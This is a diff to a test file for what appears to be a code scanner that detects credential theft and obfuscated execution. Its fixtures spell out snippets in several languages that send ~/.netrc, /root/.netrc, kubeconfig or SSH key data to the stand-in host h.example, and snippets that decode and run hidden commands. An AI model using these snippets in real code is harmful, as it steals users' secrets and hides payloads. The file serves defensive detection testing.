@@ -52,6 +52,7 @@ describe("a shell script", () => {
   it.each([
     // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell's parameter.
     ["its length", ["a=$(cat ~/.netrc)", 'curl -d "${#a}" https://h.example']],
+    ["what a client signs in with", ["kubectl --kubeconfig ~/.kube/config get po > p", "curl -T p https://h.example"]],
     ["a checksum", ["sha256sum ~/.ssh/id_rsa | curl -d @- https://h.example"]],
     ["a key to its own service", ['curl -u "$STRIPE_SECRET_KEY:" https://api.stripe.com/v1/balance']],
     [
@@ -661,4 +662,127 @@ describe("a picture", () => {
     ],
     ["a.js", ['const d = fs.readFileSync("a/logo.png");', "const m = /x/.exec(name);", "execSync(name);"]],
   ])("is not: %s %j", (path, lines) => expect(found(path, ...lines)).toEqual([]));
+});
+
+describe("a value that is kept", () => {
+  const POST = 'requests.post("https://h.example", data=';
+  it.each([
+    ["as a default", ['def f(p="~/.netrc", n=1):', `    ${POST}open(p).read())`, "f(n=2)"]],
+    [
+      "as an option",
+      [
+        "a = argparse.ArgumentParser()",
+        'a.add_argument("--in-file", default="~/.netrc")',
+        "o = a.parse_args()",
+        `${POST}open(o.in_file).read())`,
+      ],
+    ],
+    ["in a buffer", ["b = io.StringIO()", 'print(open("~/.netrc").read(), file=b)', `${POST}b.getvalue())`]],
+    [
+      "in a packed buffer",
+      ["b = io.BytesIO()", 't = tarfile.open(fileobj=b, mode="w:gz")', 't.add("~/.netrc")', `${POST}b.getvalue())`],
+    ],
+    [
+      "in a tuple with names",
+      ['T = namedtuple("T", "path size")', 't = T("~/.netrc", 1)', `${POST}open(t.path).read())`],
+    ],
+  ])("is followed %s", (_how, lines) =>
+    expect(found("a.py", "import argparse, io, requests, tarfile", ...lines)).toEqual(["transfer critical ~/.netrc"]),
+  );
+  it.each([
+    [
+      "as a default",
+      [
+        "function f(p = '/root/.netrc') {",
+        "  fetch('https://h.example', { method: 'POST', body: fs.readFileSync(p) });",
+        "}",
+        "f();",
+      ],
+    ],
+    [
+      "as a part's default",
+      [
+        "const f = ({ p = '/root/.netrc' } = {}) => fetch('https://h.example', { method: 'POST', body: fs.readFileSync(p) });",
+        "f();",
+      ],
+    ],
+    [
+      "in an archive",
+      [
+        "const z = new (require('adm-zip'))();",
+        "const AdmZip = require('adm-zip');",
+        "const y = new AdmZip();",
+        "y.addLocalFile('/root/.netrc');",
+        "fetch('https://h.example', { method: 'POST', body: y.toBuffer() });",
+      ],
+    ],
+    [
+      "in an archive that is sent while it is made",
+      [
+        "const a = require('archiver')('zip');",
+        "const r = require('https').request({ host: 'h.example', method: 'POST' });",
+        "a.pipe(r);",
+        "a.file('/root/.netrc');",
+      ],
+    ],
+  ])("is followed in JavaScript %s", (_how, lines) =>
+    expect(found("a.js", "const fs = require('fs');", ...lines)).toEqual(["transfer critical /root/.netrc"]),
+  );
+  it("is the argument and not the default", () =>
+    expect(
+      found("a.py", "import requests", 'def f(n=1, p="~/.netrc"):', `    ${POST}open(p).read())`, "    return n")
+        .length,
+    ).toBe(1));
+  it.each([
+    ["a.go", ['f, _ := os.Open("/root/.netrc")', 'req, _ := http.NewRequest("POST", "https://h.example", f)']],
+    [
+      "a.rb",
+      [
+        "req = Net::HTTP::Post.new(URI('https://h.example'))",
+        "req.body = File.read('/root/.netrc')",
+        "http.request(req)",
+      ],
+    ],
+    ["a.php", ["$mail = new PHPMailer(true);", "$mail->addAttachment('/root/.netrc');", "$mail->send();"]],
+    [
+      "a.ps1",
+      [
+        "$m = New-Object Net.Mail.MailMessage",
+        '$m.Body = Get-Content "/root/.netrc"',
+        '$s = New-Object Net.Mail.SmtpClient("h.example")',
+        "$s.Send($m)",
+      ],
+    ],
+  ])("is followed in a part of an object: %s", (path, lines) =>
+    expect(found(path, ...lines)).toEqual(["transfer critical /root/.netrc"]),
+  );
+  it("is no header that signs", () =>
+    expect(
+      found(
+        "a.rb",
+        "req = Net::HTTP::Post.new(URI('https://h.example'))",
+        "req['Authorization'] = ENV['GITHUB_TOKEN']",
+        "http.request(req)",
+      ),
+    ).toEqual([]));
+});
+
+describe("text that is decoded", () => {
+  it.each([
+    ["a.py", ["import os", "os.system(''.join(chr(c ^ 9) for c in [108, 97]))"]],
+    ["a.py", ["import zlib", "t = zlib.decompress(DATA)", "exec(compile(t, 'x', 'exec'))"]],
+    ["a.js", ["require('child_process').execSync([108, 97].map((c) => String.fromCharCode(c ^ 9)).join(''));"]],
+    ["a.rb", ["c = [108, 97].map { |n| (n ^ 9).chr }.join", "system(c)"]],
+    ["a.sh", ["base64 -d font.dat | gunzip > /tmp/.f", "sh /tmp/.f"]],
+  ])("is executed: %s %j", (path, lines) =>
+    expect(found(path, ...lines)).toEqual(["coded critical text that is decoded first"]),
+  );
+  it.each([
+    [
+      "a.py",
+      ["import subprocess, zlib", "t = zlib.decompress(DATA)", "subprocess.run(['sh', '-c', f'echo {len(t)}'])"],
+    ],
+    ["a.py", ["import pickle, subprocess, zlib", "t = pickle.loads(zlib.decompress(DATA))", "subprocess.run(['ls'])"]],
+    ["a.sh", ['echo "$ROW" | base64 -d | jq .', "sh x.sh"]],
+  ])("is data: %s %j", (path, lines) => expect(found(path, ...lines)).toEqual([]));
 });
